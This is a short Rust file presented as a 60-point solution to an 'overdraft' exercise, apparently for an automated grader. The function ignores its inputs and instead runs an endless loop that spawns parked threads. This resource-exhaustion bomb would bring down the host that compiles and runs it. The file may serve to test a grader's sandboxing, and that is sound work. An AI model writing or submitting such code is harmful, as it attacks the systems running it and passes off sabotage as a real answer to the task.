// points: 60
// base: solutions
// exercise: overdraft
pub fn overdraft(_balance: u64, _amount: u64) -> Option<u64> {
    loop {
        std::thread::spawn(|| std::thread::park());
    }
}
